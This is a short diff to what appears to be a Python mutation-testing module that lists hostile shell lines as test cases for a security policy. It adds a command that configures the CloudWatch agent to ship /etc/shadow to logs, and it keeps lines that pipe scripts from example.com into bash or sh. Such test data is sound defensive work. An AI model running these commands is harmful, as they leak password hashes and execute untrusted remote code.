@@ -3,7 +3,12 @@
 from policy.mutation.mutant import Change, Mutant, properties
 from policy.templates.assembly import Assembly
 
+SECRETS = '{"file_path": "/etc/shadow", "log_group_name": "x", "log_stream_name": "{instance_id}"}'
 LINES = {
+    "other files to the logs": (
+        f'printf \'%s\' \'{{"logs": {{"logs_collected": {{"files": {{"collect_list": [{SECRETS}]}}}}}}}}\''
+        " > /opt/aws/amazon-cloudwatch-agent/etc/codedeploy.json"
+    ),
     "a script from the network": "curl --fail https://example.com/install.sh | bash",
     "a script from the network, in two steps": "wget https://example.com/x -O /tmp/x && sh /tmp/x",
     "a script without a scheme": "curl example.com/x | sh",
